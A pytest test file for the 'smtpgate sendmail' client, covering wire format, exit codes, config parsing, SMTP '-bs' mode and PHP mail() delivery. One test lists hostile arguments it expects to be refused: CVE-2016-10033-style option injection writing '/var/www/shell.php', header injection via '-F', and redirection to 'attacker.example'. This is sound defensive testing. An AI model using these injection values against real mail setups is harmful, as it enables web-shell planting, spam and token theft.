"""`smtpgate sendmail` against a throwaway server speaking the line protocol
over real TCP and Unix sockets: what goes on the wire, and the exit codes.
At the end, the whole way: real `php` calling mail() through `smtpgate
sendmail` into the real daemon and on to a real (aiosmtpd) upstream."""

from __future__ import annotations

import io
import json
import os
import shutil
import socket
import socketserver
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from smtpgate.message.sendmail import resolve
from smtpgate.tools import sendmail
from smtpgate.tools.sendmail import (EX_CONFIG, EX_DATAERR, EX_NOPERM, EX_NOUSER, EX_OK,
                               EX_TEMPFAIL, EX_USAGE, parse_args)

MESSAGE = (b"From: Shop <shop@example.com>\n"
           b"To: Kelly <kelly@example.org>, ops@example.org\n"
           b"Cc: =?utf-8?q?J=C3=B6rg?= <joerg@example.net>\n"
           b"Bcc: audit@example.com,\n"
           b" archive@example.com\n"
           b"Subject: Order 42\n"
           b"X-Mailer: PHP/8.2\n"
           b"\n"
           b"Hello.\n"
           b".\n"
           b"After a lone dot.\n")


class LineServer:
    """Accepts connections, records request lines, answers from a script.

    `reply(line) -> str` gives the reply line (without CRLF) for each request.
    """

    def __init__(self, address=("127.0.0.1", 0), reply=None):
        self.lines: list[str] = []
        self.reply = reply or (lambda line: "OK 01SENDMAILTEST" if line.startswith("SEND ") else "OK")
        outer = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                for raw in self.rfile:
                    line = raw.decode("utf-8").rstrip("\n")
                    outer.lines.append(line)
                    self.wfile.write(outer.reply(line).encode() + b"\r\n")

        kind = (socketserver.ThreadingUnixStreamServer if isinstance(address, str)
                else socketserver.ThreadingTCPServer)
        kind.daemon_threads = True
        self.server = kind(address, Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True)
        self.thread.start()
        if isinstance(address, str):
            self.uri = f"unix://{address}"
        else:
            self.uri = "tcp://127.0.0.1:%d" % self.server.server_address[1]

    def wire_sends(self) -> list[dict]:
        return [json.loads(line[5:]) for line in self.lines if line.startswith("SEND ")]

    def sends(self) -> list[dict]:
        """The SENDs as the daemon reads them: the `sendmail` field resolved
        by the daemon's own code into `from`, `to` and the message."""
        out = []
        for send in self.wire_sends():
            if "sendmail" in send:
                send, send["raw"] = resolve(send, send.get("raw"))
            out.append(send)
        return out

    def close(self):
        # shutdown() waits for serve_forever to notice; if that thread is
        # gone it would wait forever.
        if self.thread.is_alive():
            self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def line_server():
    servers = []

    def make(**kwargs):
        servers.append(LineServer(**kwargs))
        return servers[-1]

    yield make
    for server in servers:
        server.close()


@pytest.fixture(autouse=True)
def no_ambient_server(monkeypatch):
    """Tests say where the daemon is; the machine's environment must not."""
    monkeypatch.delenv("SMTPGATE_SERVER", raising=False)
    monkeypatch.delenv("SMTPGATE_TOKEN", raising=False)


CDIR = Path(__file__).resolve().parent.parent / "clients" / "c"
SMTPGATE = Path(sys.executable).parent / "smtpgate"


@pytest.fixture(scope="session")
def c_sendmail() -> Path:
    """The C command, `make -C clients/c` once per run."""
    proc = subprocess.run(["make", "-s", "-C", str(CDIR)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return CDIR / "build" / "smtpgate-sendmail"


@pytest.fixture(params=["python", "c"])
def sendmail_argv(request) -> list[str]:
    """Each test runs against both commands: `smtpgate sendmail` and the C `smtpgate-sendmail`."""
    if request.param == "python":
        return [str(SMTPGATE), "sendmail"]
    return [str(request.getfixturevalue("c_sendmail"))]


def _env(server=None, config=None) -> dict:
    env = dict(os.environ)
    env.update({k: str(v) for k, v in (("SMTPGATE_SERVER", server), ("SMTPGATE_CONFIG", config)) if v})
    return env


@pytest.fixture
def run(sendmail_argv):
    """run(argv, message, server, config) -> (exit code, stderr): the command
    with $SMTPGATE_SERVER = `server` and $SMTPGATE_CONFIG = `config` (the only
    ways to name them: never the command line). The Python command runs
    in-process (sendmail.main), the C one as a process."""
    def in_process(argv, message=MESSAGE, server=None, config=None):
        err = io.StringIO()
        code = sendmail.main(argv, stdin=io.BytesIO(message), stderr=err, env=_env(server, config))
        return code, err.getvalue()

    def as_process(argv, message=MESSAGE, server=None, config=None):
        proc = subprocess.run([*sendmail_argv, *argv], input=message, capture_output=True, timeout=30,
                              env=_env(server, config))
        return proc.returncode, proc.stderr.decode()

    return in_process if sendmail_argv[-1] == "sendmail" else as_process


def test_php_style_call_sends_one_raw_send(line_server, run):
    server = line_server()
    code, err = run(["-t", "-i", "-f", "bounce@example.com"], server=server.uri)
    assert (code, err) == (EX_OK, "")
    [send] = server.sends()
    assert send["from"] == "bounce@example.com"
    assert send["to"] == ["kelly@example.org", "ops@example.org", "joerg@example.net",
                          "audit@example.com", "archive@example.com"]
    # Bcc is gone, every other header and the body are as PHP wrote them;
    # with -i the lone dot is content.
    assert send["raw"] == (MESSAGE.replace(b"Bcc: audit@example.com,\n archive@example.com\n", b"")
                           .decode())
    assert set(send) == {"from", "to", "raw"}
    # On the wire: the message as PHP wrote it and the command line; the
    # daemon applies the sendmail rules (message/sendmail.py).
    [wire] = server.wire_sends()
    assert wire["raw"] == MESSAGE.decode()
    assert wire["sendmail"] == {"extract_recipients": True, "recipients": [], "sender": "bounce@example.com",
                                "full_name": None, "default_sender": sendmail._local_sender()}


def test_without_i_a_lone_dot_ends_the_message(line_server, run):
    server = line_server()
    assert run(["-t"], server=server.uri)[0] == EX_OK
    raw = server.sends()[0]["raw"]
    assert raw.endswith("\nHello.\n")


def test_recipients_on_the_command_line_and_sender_from_the_header(line_server, run):
    server = line_server()
    message = b"From: Shop <shop@example.com>\r\nSubject: s\r\n\r\nbody\r\n"
    argv = ["-oi", "-odi", "-oem", "-bm", "-U", "one@example.org, Two <two@example.org>", "one@example.org"]
    assert run(argv, message, server=server.uri)[0] == EX_OK
    [send] = server.sends()
    assert send["from"] == "shop@example.com"
    assert send["to"] == ["one@example.org", "two@example.org"]
    assert send["raw"] == message.decode()


def test_a_message_without_from_gets_one_from_f_and_F(line_server, run):
    server = line_server()
    message = b"To: kelly@example.org\r\nSubject: s\r\n\r\nbody\r\n"
    assert run(["-ti", "-fnoreply@example.com", "-F", "Jörg Shop"],
               message, server=server.uri)[0] == EX_OK
    raw = server.sends()[0]["raw"]
    assert raw == "From: =?utf-8?q?J=C3=B6rg_Shop?= <noreply@example.com>\r\n" + message.decode()


def test_a_message_that_is_only_a_body_gets_a_header(line_server, run):
    """`echo text | sendmail addr`, as cron and scripts do."""
    server = line_server()
    assert run(["-f", "cron@example.com", "ops@example.org"],
               b"backup failed: disk full\nsee /var/log/backup.log\n", server=server.uri)[0] == EX_OK
    assert server.sends()[0]["raw"] == ("From: cron@example.com\n\n"
                                        "backup failed: disk full\nsee /var/log/backup.log\n")


def test_token_and_unix_socket_from_the_config_file(line_server, tmp_path, run):
    server = line_server(address=str(tmp_path / "smtpgate.sock"))
    (tmp_path / "tokens").write_text("\nsecret-token-1\nsecret-token-2\n")
    config = tmp_path / "smtpgate.toml"
    config.write_text(f'listen = ["127.0.0.1:1"]\nsocket = "{tmp_path}/smtpgate.sock"\n'
                      f'tokens_file = "{tmp_path}/tokens"\nupstream_password_file = "/root/nope"\n')
    assert run(["-t", "-i"], config=str(config))[0] == EX_OK
    assert server.lines[0] == "AUTH secret-token-1"
    assert len(server.sends()) == 1


def test_config_file_with_arrays_over_lines_and_tables(line_server, tmp_path, run):
    """The C command reads only a few top-level keys, without a TOML library:
    lines inside a multi-line array or string are not keys, and a key of a
    table is not a top-level key."""
    server = line_server(address=str(tmp_path / "smtpgate.sock"))
    config = tmp_path / "smtpgate.toml"
    config.write_text(
        '# smtpgate\n'
        'upstream = [\n  "smtp1.example.com:587",  # [primary]\n  "socket = \'/wrong\'",\n]\n'
        'motd = """\nsocket = "/wrong/too"\n"""\n'
        f'socket = "{tmp_path}/smtpgate.sock"   # the Unix door\n'
        'tokens = [\n  "tok-a",\n  "tok-b",\n]\n'
        'max_message_size = 26_214_400\n'
        '[callers.shop]\nsocket = "/wrong/table"\ntokens = ["nope"]\n')
    assert run(["-t", "-i"], config=str(config))[0] == EX_OK
    assert server.lines[0] == "AUTH tok-a"


def test_listen_address_from_the_config_file(line_server, tmp_path, run):
    server = line_server()
    port = server.uri.rsplit(":", 1)[1]
    config = tmp_path / "smtpgate.toml"
    config.write_text(f'listen = "0.0.0.0:{port}"\ntokens = ["t1"]\n')
    assert run(["-t", "-i"], config=str(config))[0] == EX_OK
    assert server.lines[0] == "AUTH t1"


def test_environment_names_the_server_and_token(line_server, monkeypatch, run):
    server = line_server()
    monkeypatch.setenv("SMTPGATE_SERVER", server.uri)
    monkeypatch.setenv("SMTPGATE_TOKEN", "env-token")
    assert run(["-t", "-i"])[0] == EX_OK
    assert server.lines[0] == "AUTH env-token"


@pytest.mark.parametrize("error, exit_code", [
    ("ERR BUSY spool full", EX_TEMPFAIL),
    ("ERR INTERNAL disk I/O error", EX_TEMPFAIL),
    ("ERR BAD_ADDRESS not an address: kelly@", EX_NOUSER),
    ("ERR DENIED recipient outside the policy", EX_NOUSER),
    ("ERR BAD_HEADER header Subject: contains CR", EX_DATAERR),
    ("ERR TOO_LARGE over 25 MiB", EX_DATAERR),
    ("ERR AUTH_REQUIRED send AUTH first", EX_NOPERM),
])
def test_daemon_errors_become_sendmail_exit_codes(line_server, error, exit_code, run):
    server = line_server(reply=lambda line: error)
    code, err = run(["-t", "-i"], server=server.uri)
    assert code == exit_code
    assert error[4:] in err


def test_unreachable_daemon_is_a_temporary_failure(tmp_path, run):
    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    assert run(["-t", "-i"], server=f"tcp://127.0.0.1:{port}")[0] == EX_TEMPFAIL
    assert run(["-t", "-i"], server=f"unix://{tmp_path}/absent.sock")[0] == EX_TEMPFAIL


def test_a_daemon_that_hangs_up_is_a_temporary_failure(line_server, run):
    server = line_server()
    server.server.RequestHandlerClass.handle = lambda self: None  # accept, then close
    assert run(["-t", "-i"], server=server.uri)[0] == EX_TEMPFAIL


def test_refusals_before_anything_is_sent(line_server, tmp_path, run):
    server = line_server()
    assert run(["-i", "-f", "a@example.com"], server=server.uri)[0] == EX_USAGE  # no recipient, no -t
    assert run(["-bp"], server=server.uri)[0] == EX_USAGE
    assert run(["-t", "-Z"], server=server.uri)[0] == EX_USAGE
    assert run(["-t", "-f"], server=server.uri)[0] == EX_USAGE
    assert run(["-t"], config=str(tmp_path / "missing.toml"))[0] == EX_CONFIG
    assert run(["-t", "-i"], server="nonsense")[0] == EX_USAGE
    assert server.lines == []


def test_stdin_is_read_no_further_than_the_size_limit(line_server, tmp_path, run):
    server = line_server()
    config = tmp_path / "smtpgate.toml"
    config.write_text('max_message_size = 2048\n')
    big = MESSAGE.replace(b"\n.\n", b"\n") + b"x" * 3000 + b"\n"
    for flags in (["-t", "-i"], ["-t"]):
        code, err = run(flags, big, config=str(config), server=server.uri)
        assert code == EX_DATAERR and "2048" in err
    assert run(["-t", "-i"], config=str(config), server=server.uri)[0] == EX_OK


def test_parse_args_accepts_what_mtas_accept():
    opts = parse_args(["-t", "-oi", "-odi", "-oem", "-bm", "-B", "8BITMIME", "-N", "never",
                       "-fme@example.com", "-FMe", "-q30m", "-O", "DeliveryMode=b", "--", "x@y"])
    assert opts.extract_recipients and not opts.dot_ends_input
    assert (opts.sender, opts.full_name, opts.recipients) == ("me@example.com", "Me", ["x@y"])


def test_options_mtas_accept_are_accepted_and_ignored(line_server, run):
    server = line_server()
    argv = ["-t", "-oi", "-odi", "-oem", "-bm", "-B", "8BITMIME", "-N", "never", "-fme@example.com",
            "-FMe", "-q30m", "-O", "DeliveryMode=b", "-U", "-m", "--", "x@example.org"]
    assert run(argv, server=server.uri)[0] == EX_OK
    [wire] = server.wire_sends()
    assert {k: wire["sendmail"][k] for k in ("extract_recipients", "recipients", "sender", "full_name")} == {
        "extract_recipients": True, "recipients": ["x@example.org"], "sender": "me@example.com", "full_name": "Me"}
    assert wire["raw"] == MESSAGE.decode(), "-oi: the lone dot is content"


# The command line is built from input the application may not have checked:
# mail()'s fifth parameter, a user's address after -f (CVE-2016-10033).
@pytest.mark.parametrize("argv", [
    ["-t", "-i", "-f", "-oQ/tmp/", "-X/var/www/shell.php"],       # an option where -f's value belongs
    ["-t", "-i", "-f", "a@example.com", "x@example.org", "-X/var/www/shell.php"],  # option after a recipient
    ["-i", "x@example.org", "-fattacker@example.com"],
    ["-t", "-i", "-F", "Eve\nBcc: victim@example.org"],           # a header through -F
    ["-t", "-i", "-F", "Eve\rX: y"],
    ["-t", "-i", "-F", "Eve\u2028X: y"],
    ["-t", "-i", "-F", "Eve\x85X: y"],
    ["-t", "-i", "--server=tcp://attacker.example:25"],            # where the message and the token go
    ["-t", "-i", "--server", "tcp://attacker.example:25"],
    ["-t", "-i", "--config=/tmp/evil.toml"],
    ["-t", "-i", "-"],
    ["-t", "-bp"],
    ["-t", "-bd"],
    # mail()'s fifth parameter "-fx@example.com -bs": the message on stdin,
    # a form's text, would be read as SMTP commands naming the recipients.
    ["-t", "-i", "-fx@example.com", "-bs"],
    ["-i", "-bs"],
    ["-bs", "-fx@example.com"],
    ["-bs", "x@example.org"],
])
def test_hostile_arguments_are_refused_before_anything_is_sent(line_server, run, argv):
    server = line_server()
    code, err = run(argv, server=server.uri)
    assert code == EX_USAGE, err
    assert server.lines == []


def test_nothing_after_a_sender_value_is_read_as_an_option(line_server, run):
    """`-f` takes the next word as it is, even one that looks like a flag's
    value; what follows is a recipient, never an option."""
    server = line_server()
    assert run(["-i", "-f", "a@example.com", "b@example.org", "-t"], server=server.uri)[0] == EX_USAGE
    assert run(["-i", "-f", "a@example.com", "--", "-t@example.org"], server=server.uri)[0] == EX_USAGE
    code, err = run(["-i", "-fa@example.com", "b@example.org"], server=server.uri)
    assert code == EX_OK, (err, server.lines)
    [wire] = server.wire_sends()
    assert (wire["sendmail"]["sender"], wire["sendmail"]["recipients"]) == ("a@example.com", ["b@example.org"])


def test_the_installed_command_runs_it(line_server):
    """`smtpgate sendmail` (the console script) reaches sendmail.main with its argv."""
    server = line_server()
    smtpgate = Path(sys.executable).parent / "smtpgate"
    result = subprocess.run([str(smtpgate), "sendmail", "-t", "-i", "-f", "bounce@example.com"],
                            input=MESSAGE, capture_output=True, timeout=30,
                            env=dict(os.environ, SMTPGATE_SERVER=server.uri))
    assert result.returncode == 0, result.stderr
    assert server.sends()[0]["from"] == "bounce@example.com"


# --- end to end: php mail() -> smtpgate sendmail -> daemon -> upstream ------

php = pytest.mark.skipif(shutil.which("php") is None, reason="php not installed")

# mail() as PHP applications call it: headers as an array (PHP >= 7.2), the
# envelope sender in the fifth parameter.
PHP_MAIL = r"""
$ok = mail(
    "Kelly <kelly@example.org>, ops@example.org",
    "Order 42 shipped",
    "Hello Kelly,\n\nyour order 42 is on its way: 3 × Tee, 1 × Mug.\n.\nThe end.\n",
    [
        "From" => "Shop <shop@example.com>",
        "Reply-To" => "support@example.com",
        "Cc" => "archive@example.net",
        "Bcc" => "audit@example.com",
        "X-Order" => "42",
        "MIME-Version" => "1.0",
        "Content-Type" => "text/plain; charset=UTF-8",
    ],
    "-fbounce@example.com"
);
echo $ok ? "sent" : "failed";
"""


def run_php_mail(server_uri, sendmail_argv):
    return subprocess.run(
        ["php", "-n", "-d", f"sendmail_path={' '.join(sendmail_argv)} -t -i", "-r", PHP_MAIL],
        capture_output=True, text=True, timeout=60,
        env=dict(os.environ, SMTPGATE_SERVER=server_uri))


@php
def test_php_mail_reaches_the_upstream_with_headers_intact(daemon, upstream, sendmail_argv):
    result = run_php_mail(daemon.unix_uri, sendmail_argv)
    assert (result.returncode, result.stdout) == (0, "sent"), result.stderr
    [received] = upstream.wait_for(1)
    assert received.mail_from == "bounce@example.com"
    assert sorted(received.rcpt_tos) == ["archive@example.net", "audit@example.com",
                                         "kelly@example.org", "ops@example.org"]
    message = received.message
    assert message["To"] == "Kelly <kelly@example.org>, ops@example.org"
    assert message["Subject"] == "Order 42 shipped"
    assert message["From"] == "Shop <shop@example.com>"
    assert message["Reply-To"] == "support@example.com"
    assert message["Cc"] == "archive@example.net"
    assert message["X-Order"] == "42"
    assert message["Bcc"] is None and b"audit@" not in received.data
    assert message["Message-ID"] and message["Date"], "the daemon adds what PHP leaves out"
    # The body as PHP wrote it (it ends it with one more CRLF), in CRLF line
    # endings, the lone dot kept (dot-stuffed on the wire, unstuffed by the upstream).
    body = received.data.split(b"\r\n\r\n", 1)[1]
    assert body == ("Hello Kelly,\r\n\r\nyour order 42 is on its way: 3 × Tee, 1 × Mug.\r\n"
                    ".\r\nThe end.\r\n\r\n").encode()


@php
def test_php_mail_returns_false_when_the_daemon_is_down(tmp_path, sendmail_argv):
    result = run_php_mail(f"unix://{tmp_path}/no-daemon.sock", sendmail_argv)
    assert result.stdout == "failed"


def test_legacy_8bit_mail_passes_octet_for_octet(daemon, upstream, sendmail_argv):
    # Old PHP code in China sends GBK headers and bodies without any MIME
    # encoding; the relay must pass the octets on, not refuse or re-encode them.
    gbk = "Subject: 测试\nContent-Type: text/plain; charset=GBK\n\n你好，世界\n".encode("gbk")
    result = subprocess.run(
        [*sendmail_argv, "-i", "-f", "app@example.com", "ops@example.org"], input=gbk,
        capture_output=True, timeout=30, env=dict(os.environ, SMTPGATE_SERVER=daemon.uri))
    assert result.returncode == EX_OK, result.stderr
    [received] = upstream.wait_for(1)
    assert "Subject: 测试\r\n".encode("gbk") in received.data
    assert received.data.endswith("\r\n\r\n你好，世界\r\n".encode("gbk"))


def test_t_with_no_recipient_in_the_header_is_refused_by_the_daemon(daemon, upstream, sendmail_argv):
    result = subprocess.run(
        [*sendmail_argv, "-t", "-i"], input=b"From: a@example.com\nSubject: s\n\nbody\n",
        capture_output=True, timeout=30, env=dict(os.environ, SMTPGATE_SERVER=daemon.uri))
    assert result.returncode == EX_DATAERR
    assert b"BAD_REQUEST no recipient" in result.stderr
    with daemon.client() as client:
        assert client.stats()["counters"]["accepted"] == 0


def test_sendmail_into_the_real_daemon_over_tcp(daemon, upstream, sendmail_argv):
    result = subprocess.run(
        [*sendmail_argv, "-i", "-f", "bounce@example.com", "-F", "Night Job", "ops@example.org"],
        input=b"Subject: nightly backup\n\nbackup ok\n", capture_output=True, timeout=30,
        env=dict(os.environ, SMTPGATE_SERVER=daemon.uri))
    assert result.returncode == EX_OK, result.stderr
    [received] = upstream.wait_for(1)
    assert received.rcpt_tos == ["ops@example.org"]
    assert received.message["From"] == "Night Job <bounce@example.com>"
    assert received.message["Subject"] == "nightly backup"


def test_sendmail_authenticates_to_a_daemon_with_tokens(make_daemon, upstream, sendmail_argv):
    daemon = make_daemon(tokens=["tok-for-php-2d8e41c9"])
    argv = [*sendmail_argv, "-t", "-i"]
    env = {k: v for k, v in os.environ.items() if k != "SMTPGATE_TOKEN"}
    env["SMTPGATE_SERVER"] = daemon.unix_uri
    refused = subprocess.run(argv, input=MESSAGE, capture_output=True, timeout=30, env=env)
    assert refused.returncode == EX_NOPERM
    assert b"AUTH_REQUIRED" in refused.stderr
    accepted = subprocess.run(argv, input=MESSAGE, capture_output=True, timeout=30,
                              env=dict(env, SMTPGATE_TOKEN="tok-for-php-2d8e41c9"))
    assert accepted.returncode == EX_OK, accepted.stderr
    [received] = upstream.wait_for(1)
    assert received.message["X-Mailer"] == "PHP/8.2"
    assert b"tok-for-php-2d8e41c9" not in daemon.log_path.read_bytes()


# --- sendmail -bs: SMTP on stdin/stdout (Symfony Mailer, Laravel, SwiftMailer) ---

BS_DIALOGUE = (b"EHLO client.test\r\n"
               b"MAIL FROM:<shop@example.com>\r\n"
               b"RCPT TO:<kelly@example.org>\r\n"
               b"RCPT TO:<ops@example.org>\r\n"
               b"DATA\r\n"
               b"Subject: first\r\n\r\nline one\r\n..dot-stuffed\r\n.\r\n"
               b"MAIL FROM:<shop@example.com>\r\n"
               b"RCPT TO:<joerg@example.net>\r\n"
               b"DATA\r\n"
               b"Subject: second\r\n\r\nbody two\r\n.\r\n")


def run_bs(server_uri, dialogue, sendmail_argv):
    # The C command runs `smtpgate sendmail -bs`, found on $PATH.
    path = f"{SMTPGATE.parent}{os.pathsep}{os.environ.get('PATH', '')}"
    return subprocess.run([*sendmail_argv, "-bs", "-i"], input=dialogue, capture_output=True, timeout=30,
                          env=dict(os.environ, SMTPGATE_SERVER=server_uri, PATH=path))


def test_bs_hands_each_message_of_the_session_over(line_server, sendmail_argv):
    server = line_server()
    # The whole dialogue is written at once and stdin closed, as a script
    # would: every buffered command is still answered, then the session ends.
    result = run_bs(server.uri, BS_DIALOGUE, sendmail_argv)
    assert result.returncode == EX_OK, result.stderr
    replies = result.stdout.decode().split("\r\n")
    assert replies[0].startswith("220 ") and "smtpgate" in replies[0]
    assert replies.count("250 2.0.0 OK queued as 01SENDMAILTEST") == 2
    assert replies[-2:] == ["221 Bye", ""]
    first, second = server.sends()
    assert (first["from"], first["to"]) == ("shop@example.com", ["kelly@example.org", "ops@example.org"])
    assert first["raw"].startswith("Received: from client.test (local)\r\n\tby ")
    assert first["raw"].endswith("\r\nSubject: first\r\n\r\nline one\r\n.dot-stuffed\r\n")
    assert (second["to"], second["raw"].endswith("Subject: second\r\n\r\nbody two\r\n")) == (
        ["joerg@example.net"], True)


def test_bs_reports_an_unreachable_daemon_in_smtp(tmp_path):
    result = run_bs(f"unix://{tmp_path}/absent.sock", BS_DIALOGUE, [str(SMTPGATE), "sendmail"])
    replies = result.stdout.decode().split("\r\n")
    assert replies.count("451 4.3.0 Local error, try again later") == 2
    assert "221 Bye" in replies
    assert result.returncode == EX_OK  # sendmail -bs reports through SMTP


def test_c_bs_without_smtpgate_on_the_path_exits_71(c_sendmail, tmp_path):
    result = subprocess.run([str(c_sendmail), "-bs"], input=BS_DIALOGUE, capture_output=True, timeout=30,
                            env=dict(os.environ, PATH=str(tmp_path)))
    assert result.returncode == 71, result.stderr  # EX_OSERR, docs/exit-codes.md
    assert b"smtpgate sendmail -bs" in result.stderr and result.stdout == b""


def test_bs_whose_client_went_away_exits_74(tmp_path):
    # The SMTP client closed its end before the greeting: writing it fails.
    proc = subprocess.Popen([str(SMTPGATE), "sendmail", "-bs"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=dict(os.environ, SMTPGATE_SERVER=f"unix://{tmp_path}/a.sock"))
    proc.stdout.close()
    _, err = proc.communicate(BS_DIALOGUE, timeout=30)
    assert proc.returncode == 74, err  # EX_IOERR, docs/exit-codes.md


@pytest.mark.skipif(shutil.which("swaks") is None, reason="swaks not installed")
def test_swaks_through_sendmail_bs_to_the_upstream(daemon, upstream):
    """swaks --pipe runs the command and speaks SMTP on its stdin/stdout,
    interactively, as Symfony Mailer's sendmail transport does."""
    result = subprocess.run(
        ["swaks", "--pipe", f"{SMTPGATE} sendmail -bs", "--helo", "app.test",
         "--from", "app@example.com", "--to", "kelly@example.org",
         "--header", "Subject: via -bs", "--body", "sent through sendmail -bs"],
        capture_output=True, text=True, timeout=60,
        env=dict(os.environ, SMTPGATE_SERVER=daemon.unix_uri))
    assert result.returncode == 0, result.stdout + result.stderr
    msg_id = next(line for line in result.stdout.splitlines() if "queued as" in line).split()[-1]
    with daemon.client() as client:
        assert client.wait(msg_id, 20)["state"] == "sent"
    [received] = upstream.wait_for(1)
    assert received.message["Subject"] == "via -bs"
    assert b"Received: from app.test (local)" in received.data
    assert received.message.get_content().strip() == "sent through sendmail -bs"
